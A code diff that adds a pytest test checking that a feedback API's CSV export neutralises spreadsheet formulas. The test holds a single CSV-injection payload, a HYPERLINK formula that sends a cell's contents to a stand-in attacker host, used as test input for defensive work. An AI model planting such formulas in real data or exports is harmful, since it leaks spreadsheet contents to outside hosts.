@@ -178,3 +178,15 @@ def test_feedback_is_rate_limited_per_client(make_app: AppFactory) -> None:
     assert post("/api/v1/feedback", json=GOOD).status_code == 429
     stored = len(feedback.load(app.extensions["recommender"].engine))
     assert stored == burst + 2
+
+
+def test_the_csv_export_neutralises_formulas(make_app: AppFactory) -> None:
+    app = make_app()
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"see")'
+    response = app.test_client().post("/api/v1/feedback", json=GOOD | {"comment": comment})
+    assert response.status_code == 201
+    rows = list(csv.DictReader(io.StringIO(feedback.export(app.extensions["recommender"].engine))))
+    assert rows[0]["comment"] == "'" + comment
+    assert rows[0]["id"] == "1" and rows[0]["body_code"] == "E07000064"
+    engine = app.extensions["recommender"].engine
+    assert json.loads(feedback.export(engine, "json"))["feedback"][0]["comment"] == comment
